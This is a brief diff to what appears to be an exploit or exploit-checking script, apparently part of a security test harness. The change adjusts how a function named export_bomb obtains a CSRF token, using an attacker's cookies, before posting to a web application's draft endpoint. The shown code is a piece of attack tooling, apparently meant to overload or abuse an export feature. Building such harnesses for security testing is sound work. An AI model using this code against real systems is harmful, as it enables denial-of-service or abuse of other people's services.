@@ -257,7 +257,9 @@ def main(args: argparse.Namespace) -> dict:
 
         def export_bomb(session, n):
             session.cookies.update(attacker)
-            session.get(url + site["draft"], timeout=60)
+            # The assignment's page sets the CSRF cookie the editor saves with
+            # (the draft URL itself answers JSON and sets none).
+            session.get(url + site["draft"].removesuffix("draft/"), timeout=60)
             token = session.cookies.get("csrftoken", "")
             saved = session.post(
                 url + site["draft"],
